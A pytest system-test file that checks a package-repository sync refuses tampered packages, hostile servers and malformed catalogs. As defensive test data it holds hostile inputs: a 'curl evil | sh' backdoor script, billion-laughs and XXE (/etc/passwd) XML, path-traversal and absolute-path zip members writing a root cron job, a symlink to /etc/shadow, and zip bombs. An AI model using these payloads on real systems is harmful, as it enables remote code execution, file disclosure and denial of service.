"""Bad input on a real sync: hostile packages, hostile servers, bad catalogs.

Every case asserts the exact error code and a fragment of its message, and that the repository
did not change:
- a refused package: the sync succeeds, the package is listed in ``refused`` with its code, an
  error event names it, and the indexed packages, tombstones, pool files and tmp/ are as before
  (the new catalog itself is accepted, which is right: it is validly signed);
- a refused catalog (or transport): the sync raises, and every database row except the event
  log, every pool file and tmp/ are as before (the repository's clock is frozen, see helpers).

Each hostile package gets a valid catalog entry signed with the trusted key (helpers.publish_bytes),
so it is package verification, not the catalog, that has to catch it.
"""

from __future__ import annotations

import dataclasses
import datetime
import hashlib
import json
import os
import stat
import time
import tracemalloc
from pathlib import Path

import pytest
from lxml import etree

from ansible_collections.exup.fleet.plugins.module_utils._exup.catalog import build_catalog, format_time, parse_time, utc_now
from ansible_collections.exup.fleet.plugins.module_utils._exup.errors import ExupError
from ansible_collections.exup.fleet.plugins.module_utils._exup.package import HASH_NAME, INFO_NAME
from ansible_collections.exup.fleet.plugins.module_utils._exup.repo.repository import Repository
from ansible_collections.exup.fleet.plugins.module_utils._exup.repo.sync import SyncOptions
from ansible_collections.exup.fleet.plugins.module_utils._exup.signing import SigningKey
from ansible_collections.exup.fleet.plugins.module_utils._exup.transport import HttpClient
from ansible_collections.exup.fleet.plugins.module_utils._exup.vendor.feed import write_catalog
from ansible_collections.exup.fleet.tests.services.hostile import HostileHTTPServer
from ansible_collections.exup.fleet.tests.system import helpers as h

NEW_ID = "system-bios-1.02"
NEW_URL = f"packages/{NEW_ID}.zip"


@dataclasses.dataclass
class Bench:
    """A repository synced from a good feed (system-bios 1.00 and 1.01); tests then publish something bad."""

    feed_dir: Path
    key: SigningKey
    repo: Repository
    url: str
    #: the hostile server that serves the feed, for the benches seeded on one (set with .hostile)
    _hostile: HostileHTTPServer | None = dataclasses.field(default=None, repr=False)

    @property
    def hostile(self) -> HostileHTTPServer:
        if self._hostile is None:
            raise AttributeError("this bench's feed is not on the hostile server")
        return self._hostile

    @hostile.setter
    def hostile(self, server: HostileHTTPServer) -> None:
        self._hostile = server

    @property
    def root(self) -> Path:
        return Path(self.repo.store.root)

    @property
    def trusted(self):
        return h.keyring(self.key)

    def sync(self, trusted=None):
        return self.repo.sync(HttpClient(timeout=10), trusted or self.trusted, SyncOptions(self.url, h.MANAGER, servers=[h.server("db01")]))

    def publish(self, data: bytes, **kwargs) -> dict:
        """Publish ``data`` as system-bios 1.02 (the newest: generation management wants it)."""
        return h.publish_bytes(self.feed_dir, self.key, h.info(NEW_ID, version="1.02"), data, **kwargs)

    def members(self, **kwargs) -> dict:
        """The members of a good, trusted system-bios 1.02 package, to alter."""
        return h.package_members(h.info(NEW_ID, version="1.02"), self.key, **kwargs)

    def assert_refused(self, code: str, fragment: str, keeps_part: bool = False) -> dict:
        """Sync; the new package must be refused with ``code`` and the repository's packages unchanged.

        ``keeps_part``: tmp/ may gain the partial download (a truncated one is kept to resume).
        """
        before = h.package_snapshot(self.root)
        result = self.sync()
        assert result.added == [] and result.removed == []
        assert [(r["package_id"], r["code"]) for r in result.refused] == [(NEW_ID, code)], result.refused
        assert fragment in result.refused[0]["reason"]
        after = h.package_snapshot(self.root)
        if keeps_part:
            del before["tmp"], after["tmp"]
        assert after == before
        assert NEW_ID not in h.check_store(self.root, self.trusted)
        refusals = [e for e in result.events if e["code"] == "package_refused"]
        assert [(e["level"], e["detail"]["error"], e["detail"]["package_id"]) for e in refusals] == [("error", code, NEW_ID)]
        return result.refused[0]

    def assert_fails(self, code: str, fragment: str, trusted=None) -> ExupError:
        """Sync; it must raise ``code`` and change nothing but the event log."""
        before = h.snapshot(self.root)
        with pytest.raises(ExupError) as caught:
            self.sync(trusted)
        assert caught.value.code == code, caught.value.msg
        assert fragment in caught.value.msg
        assert h.snapshot(self.root) == before
        last = [e for e in caught.value.details["events"] if e["code"] == "repository_update_failed"]
        assert [e["detail"]["error"] for e in last] == [code]
        return caught.value


def _seed(tmp_path: Path, feed_dir: Path, url: str, load=None) -> Bench:
    key = SigningKey.generate()
    h.simple_feed(feed_dir, key, versions=("1.00", "1.01"), modules=("system-bios",))
    if load:
        load()
    bench = Bench(feed_dir, key, h.frozen_repo(tmp_path / "repo"), url)
    assert len(bench.sync().added) == 2
    return bench


@pytest.fixture
def bench(tmp_path: Path, tmp_feed_dir: Path, nginx) -> Bench:
    """The feed on nginx."""
    return _seed(tmp_path, tmp_feed_dir, nginx.url(h.CATALOG))


@pytest.fixture
def hostile_bench(tmp_path: Path, tmp_feed_dir: Path, hostile_server) -> Bench:
    """The feed on the hostile server; h.serve_feed_dir(bench.hostile, ..., **behaviours) reloads it misbehaving."""
    bench = _seed(tmp_path, tmp_feed_dir, hostile_server.url(h.CATALOG), load=lambda: h.serve_feed_dir(hostile_server, tmp_feed_dir))
    bench.hostile = hostile_server
    return bench


def flip(data: bytes, at: int) -> bytes:
    """data with one byte changed (same length)."""
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


# --------------------------------------------------------------------------- tampered and untrusted packages


def test_payload_tampered_after_signing(bench: Bench):
    # The attacker rebuilds the zip with other payload bytes and fixes the catalog's digest, so the
    # transport check passes; ExUpHash.xml still holds the vendor-signed digest.
    members = bench.members()
    members["payload/image.bin"] = flip(members["payload/image.bin"], 100)
    bench.publish(h.zip_bytes(members))
    bench.assert_refused("digest_mismatch", "payload/image.bin does not match its SHA-256 in ExUpHash.xml: the package was altered")


def test_file_replaced_on_server_without_catalog_update(bench: Bench):
    entry = bench.publish(h.zip_bytes(bench.members()))
    path = bench.feed_dir / entry["url"]
    path.write_bytes(flip(path.read_bytes(), 200))  # same size, other bytes
    refused = bench.assert_refused("digest_mismatch", "does not match the SHA-256 the catalog states: it was altered in transit or on the server")
    assert NEW_URL in refused["reason"]
    assert h.tmp_files(bench.root) == {}  # the bad download is not kept for resuming


def test_package_signed_by_unknown_key(bench: Bench):
    stranger = SigningKey.generate()
    bench.publish(h.package_bytes(h.info(NEW_ID, version="1.02"), stranger))
    bench.assert_refused("unknown_key", f"ExUpHash.xml is signed with key {stranger.key_id}, which is not a trusted key")


def test_package_with_bad_signature(bench: Bench):
    # The attacker alters the payload and updates its digest in ExUpHash.xml; the signature no
    # longer covers the list.
    members = bench.members()
    members["payload/image.bin"] = flip(members["payload/image.bin"], 5)
    root = etree.fromstring(members[HASH_NAME])
    (image,) = root.iterfind("File[@path='payload/image.bin']")  # its one entry
    image.set("sha256", hashlib.sha256(members["payload/image.bin"]).hexdigest())
    members[HASH_NAME] = etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    bench.publish(h.zip_bytes(members))
    bench.assert_refused("bad_signature", f"ExUpHash.xml has a bad signature (key {bench.key.key_id}): it was altered or not signed by that key")


def test_package_file_missing(bench: Bench):
    members = bench.members()
    del members["install.sh"]
    bench.publish(h.zip_bytes(members))
    bench.assert_refused("file_missing", "package is missing install.sh, listed in ExUpHash.xml")


def test_package_file_extra(bench: Bench):
    members = bench.members()
    members["payload/backdoor.sh"] = b"#!/bin/sh\ncurl evil | sh\n"
    bench.publish(h.zip_bytes(members))
    bench.assert_refused("file_extra", "package has payload/backdoor.sh, not listed in ExUpHash.xml")


def test_package_claims_another_version_than_its_catalog_entry(bench: Bench):
    bench.publish(h.zip_bytes(bench.members()), entry_overrides={"version": "1.03"})
    bench.assert_refused("catalog_mismatch", "package does not match its catalog entry: version '1.02' != '1.03'")
    assert h.tmp_files(bench.root) == {}


# --------------------------------------------------------------------------- hostile XML and archives

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
    + b']>\n<ExUpHash schemaVersion="1">&lol9;</ExUpHash>\n'
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE ExUpInfo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<ExUpInfo schemaVersion="1"><PackageId>&xxe;</PackageId></ExUpInfo>\n'
)


def utf16(xml: bytes) -> bytes:
    """The same document in UTF-16: a byte search for '<!DOCTYPE' no longer finds it."""
    return xml.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>').decode().encode("utf-16")


@pytest.mark.parametrize(
    "member, xml, fragment",
    [
        # ExUpHash.xml is parsed before its signature can be checked: it is the attacker's XML.
        pytest.param(HASH_NAME, BILLION_LAUGHS, "ExUpHash.xml contains a DOCTYPE or ENTITY declaration, which is not allowed", id="entity-expansion"),
        # In UTF-16 the parser itself must stop it (here libxml2's amplification limit, before the DTD check).
        pytest.param(HASH_NAME, utf16(BILLION_LAUGHS), "ExUpHash.xml is not well-formed XML", id="entity-expansion-utf16"),
        # Even a correctly signed ExUpInfo.xml (a vendor tool gone wrong) never resolves an external entity.
        pytest.param(INFO_NAME, EXTERNAL_ENTITY, "ExUpInfo.xml contains a DOCTYPE or ENTITY declaration, which is not allowed", id="external-entity"),
        pytest.param(INFO_NAME, utf16(EXTERNAL_ENTITY), "ExUpInfo.xml contains a DTD, which is not allowed", id="external-entity-utf16"),
    ],
)
def test_hostile_xml(bench: Bench, member: str, xml: bytes, fragment: str):
    if member == INFO_NAME:
        members = bench.members(info_xml=xml)  # listed in ExUpHash.xml and signed with the trusted key
    else:
        members = bench.members()
        members[HASH_NAME] = xml
    bench.publish(h.zip_bytes(members))
    refused = bench.assert_refused("xml_invalid", fragment)
    assert "root:" not in refused["reason"]  # nothing of /etc/passwd leaks into a message


@pytest.mark.parametrize(
    "name, data, code, fragment",
    [
        pytest.param(
            "../../etc/cron.d/evil",
            b"* * * * * root sh\n",
            "zip_path_invalid",
            "package member '../../etc/cron.d/evil' has a path that escapes the package",
            id="path-traversal",
        ),
        pytest.param(
            "/etc/cron.d/evil", b"* * * * * root sh\n", "zip_path_invalid", "package member '/etc/cron.d/evil' has an absolute path", id="absolute-path"
        ),
        pytest.param(
            "payload/link",
            (b"/etc/shadow", {"external_attr": (stat.S_IFLNK | 0o777) << 16}),
            "zip_link",
            "package member 'payload/link' is a symbolic link, which is not allowed",
            id="symlink",
        ),
        pytest.param("payload/bomb.bin", b"\0" * (16 * 1024 * 1024), "zip_bomb", "package member 'payload/bomb.bin' expands", id="zip-bomb"),
    ],
)
def test_hostile_archive_member(bench: Bench, name: str, data, code: str, fragment: str):
    members = bench.members()
    members[name] = data
    bench.publish(h.zip_bytes(members))
    bench.assert_refused(code, fragment)


def test_zip_bomb_by_member_count(bench: Bench):
    members = bench.members()
    members.update({f"payload/f{i}": b"" for i in range(10001)})
    bench.publish(h.zip_bytes(members))
    bench.assert_refused("zip_bomb", "package has 10005 members, more than the limit of 10000")


# --------------------------------------------------------------------------- hostile servers


@pytest.mark.parametrize("no_length", [False, True], ids=["content-length", "no-content-length"])
def test_download_longer_than_stated(hostile_bench: Bench, no_length: bool):
    entry = hostile_bench.publish(h.zip_bytes(hostile_bench.members()))
    h.serve_feed_dir(hostile_bench.hostile, hostile_bench.feed_dir, **{NEW_URL: {"overlong": 100000, "no_length": no_length}})
    size = entry["size"]
    fragment = (
        f"sent more than the {size} bytes the catalog states; download stopped"
        if no_length
        else f"is {size + 100000} bytes long, more than the {size} bytes the catalog states"
    )
    hostile_bench.assert_refused("download_too_long", fragment)
    assert h.tmp_files(hostile_bench.root) == {}  # no .part left behind


def test_truncated_download_keeps_part_and_next_sync_resumes(hostile_bench: Bench):
    payload = {"payload/image.bin": os.urandom(200_000), "install.sh": b"#!/bin/sh\nexit 0\n"}
    entry = hostile_bench.publish(h.zip_bytes(hostile_bench.members(payload=payload)))
    hostile = hostile_bench.hostile
    h.serve_feed_dir(hostile, hostile_bench.feed_dir, **{NEW_URL: {"truncate_at": 16384}})

    # The client resumes a cut connection itself, up to three requests in all, each cut again.
    refused = hostile_bench.assert_refused("download_truncated", f"was cut after {3 * 16384} of {entry['size']} bytes", keeps_part=True)
    assert refused["resumable"] is True
    ranges = [r.headers.get("Range") for r in hostile.requests_for(NEW_URL)]
    assert ranges == [None, "bytes=16384-", "bytes=32768-"]
    part = f"{entry['sha256']}.part"
    assert h.tmp_files(hostile_bench.root) == {part: 3 * 16384}  # kept for the next sync

    # The server behaves again: the next sync asks for the rest only, and completes.
    h.serve_feed_dir(hostile, hostile_bench.feed_dir)
    result = hostile_bench.sync()
    assert [a["package_id"] for a in result.added] == [NEW_ID] and result.refused == []
    last = hostile.requests_for(NEW_URL)[3:]
    assert [r.headers.get("Range") for r in last] == [f"bytes={3 * 16384}-"]
    assert result.bytes_downloaded == entry["size"]
    assert h.check_store(hostile_bench.root, hostile_bench.trusted)[NEW_ID] == entry["sha256"]
    assert h.tmp_files(hostile_bench.root) == {}


# --------------------------------------------------------------------------- bad catalogs


def test_expired_catalog(bench: Bench):
    entries = h.catalog_entries(bench.feed_dir)
    write_catalog(str(bench.feed_dir), entries, [bench.key], now=h.days_ago(40), expires_days=30)
    h.catalog_changed(bench.feed_dir)
    bench.assert_fails("catalog_expired", "catalog expired at")


def test_frozen_feed_serving_an_expired_catalog_unchanged(bench: Bench):
    # A catalog that expires in about two seconds is accepted, then the feed keeps answering
    # 304 Not Modified: once the accepted catalog has expired, the sync must refuse to go on.
    expires_in = datetime.timedelta(seconds=2)
    write_catalog(
        str(bench.feed_dir), h.catalog_entries(bench.feed_dir), [bench.key], now=utc_now() - datetime.timedelta(days=30) + expires_in, expires_days=30
    )
    h.catalog_changed(bench.feed_dir)
    assert bench.sync().catalog["entries_new"] >= 0
    expiry = parse_time(json.loads((bench.feed_dir / h.CATALOG).read_text())["signed"]["expires"])
    time.sleep(max(0.0, (expiry - utc_now()).total_seconds()) + 0.1)
    error = bench.assert_fails("catalog_expired", "the feed still serves it unchanged: the feed is stale or frozen")
    assert format_time(expiry) in error.msg


def test_catalog_version_going_down(bench: Bench):
    signed = json.loads((bench.feed_dir / h.CATALOG).read_text())["signed"]
    assert signed["version"] >= 2
    h.write_catalog_bytes(bench.feed_dir, build_catalog(signed["entries"], signed["version"] - 1, [bench.key]))
    bench.assert_fails(
        "catalog_rollback", f"catalog version {signed['version'] - 1} is lower than version {signed['version']} accepted before: refusing a rollback"
    )


def test_catalog_signed_by_unknown_key(bench: Bench):
    stranger = SigningKey.generate()
    write_catalog(str(bench.feed_dir), h.catalog_entries(bench.feed_dir), [stranger])
    h.catalog_changed(bench.feed_dir)
    bench.assert_fails("unknown_key", f"catalog is signed by no trusted key (signed by: {stranger.key_id})")


def test_catalog_entry_altered_after_signing(bench: Bench):
    # Point an entry at other bytes (the attacker's) without being able to sign the change.
    bench.publish(h.zip_bytes(bench.members()))
    envelope = json.loads((bench.feed_dir / h.CATALOG).read_text())
    entry = envelope["signed"]["entries"][-1]
    evil = h.package_bytes(h.info(NEW_ID, version="1.02"), SigningKey.generate())
    (bench.feed_dir / "packages" / "evil.zip").write_bytes(evil)
    entry.update(url="packages/evil.zip", size=len(evil), sha256=hashlib.sha256(evil).hexdigest())
    h.write_catalog_bytes(bench.feed_dir, json.dumps(envelope).encode())
    bench.assert_fails("bad_signature", f"catalog has a bad signature (key {bench.key.key_id}): it was altered or not signed by that key")


def test_untrusting_the_catalog_key_takes_effect_on_an_unchanged_feed(bench: Bench, nginx):
    # The feed has not changed since the last sync, but the operator no longer trusts the key
    # that signed its catalog: a 304 must not let the old catalog stand unverified.
    start = len(nginx.wait_for_log(1))
    bench.assert_fails("unknown_key", f"catalog is signed by no trusted key (signed by: {bench.key.key_id})", trusted=h.keyring(SigningKey.generate()))
    request = nginx.wait_for_log(start + 1)[start]
    assert (request["status"], request["if_none_match"]) == (200, "")  # fetched whole, not conditionally

    # Trusted again: the unchanged feed costs a 304 as before.
    assert bench.sync().feed_unchanged


# --------------------------------------------------------------------------- hostile catalog bytes (issue 8 items 5, 6)

CATALOG_LIMIT = 32 * 1024 * 1024  # catalog.MAX_CATALOG_BYTES, written out: the old limit was 256 MiB


def test_catalog_nested_100000_levels_deep(bench: Bench):
    h.write_catalog_bytes(bench.feed_dir, b'{"signed": ' + b"[" * 100000 + b"]" * 100000 + b', "signatures": []}')
    bench.assert_fails("catalog_invalid", "catalog is nested too deeply to be a catalog")


def test_catalog_with_a_lone_surrogate_in_signed(bench: Bench):
    envelope = json.loads((bench.feed_dir / h.CATALOG).read_text())
    envelope["signed"]["entries"][-1]["module_name"] = "System BIOS \ud800"
    data = json.dumps(envelope).encode("ascii")  # the surrogate travels as the JSON escape \ud800
    assert b"\\ud800" in data
    h.write_catalog_bytes(bench.feed_dir, data)
    bench.assert_fails("catalog_invalid", "catalog holds a lone surrogate (\\ud800), which is not text")


def test_catalog_over_the_limit_is_refused_before_it_is_parsed(bench: Bench):
    """Under the old limit an unsigned 250 MiB catalog cost 2 GiB of RSS and 17 s before unknown_key. Now one byte over 32 MiB
    is refused from its Content-Length, before its body is read, and the sync holds no copy of it."""
    padding = CATALOG_LIMIT + 1 - len(b'{"signed": {}, "signatures": [], "x": ""}')
    (bench.feed_dir / h.CATALOG).write_bytes(b'{"signed": {}, "signatures": [], "x": "' + b" " * padding + b'"}')
    h.catalog_changed(bench.feed_dir)
    assert (bench.feed_dir / h.CATALOG).stat().st_size == CATALOG_LIMIT + 1
    tracemalloc.start()
    try:
        started = time.monotonic()
        bench.assert_fails("download_too_long", f"is larger than {CATALOG_LIMIT} bytes (it states {CATALOG_LIMIT + 1})")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024 and time.monotonic() - started < 10


def test_catalog_without_a_length_over_the_limit_is_cut_at_the_limit(hostile_bench: Bench):
    # The same bytes without Content-Length (chunked): reading stops at the limit, the buffer never exceeds it.
    padding = CATALOG_LIMIT + 1 - len(b'{"signed": {}, "signatures": [], "x": ""}')
    (hostile_bench.feed_dir / h.CATALOG).write_bytes(b'{"signed": {}, "signatures": [], "x": "' + b" " * padding + b'"}')
    h.serve_feed_dir(hostile_bench.hostile, hostile_bench.feed_dir, **{h.CATALOG: {"no_length": True}})
    tracemalloc.start()
    try:
        hostile_bench.assert_fails("download_too_long", f"is larger than {CATALOG_LIMIT} bytes")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < CATALOG_LIMIT + 8 * 1024 * 1024


def test_download_with_a_non_ascii_digit_as_length_is_refused_cleanly(hostile_bench: Bench):
    # http.client reads headers as Latin-1: the byte 0xb2 is "²", which str.isdigit() takes and int() refuses.
    hostile_bench.publish(h.zip_bytes(hostile_bench.members()))
    h.serve_feed_dir(hostile_bench.hostile, hostile_bench.feed_dir, **{NEW_URL: {"no_length": True, "headers": {"Content-Length": "\u00b2"}}})
    # That length was a traceback (ValueError) out of the download worker. Now it counts as no length: the catalog's
    # size still bounds the body, and the package, whole and verified, is added.
    result = hostile_bench.sync()
    assert (result.refused, [a["package_id"] for a in result.added]) == ([], [NEW_ID])
    assert NEW_ID in h.check_store(hostile_bench.root, hostile_bench.trusted)
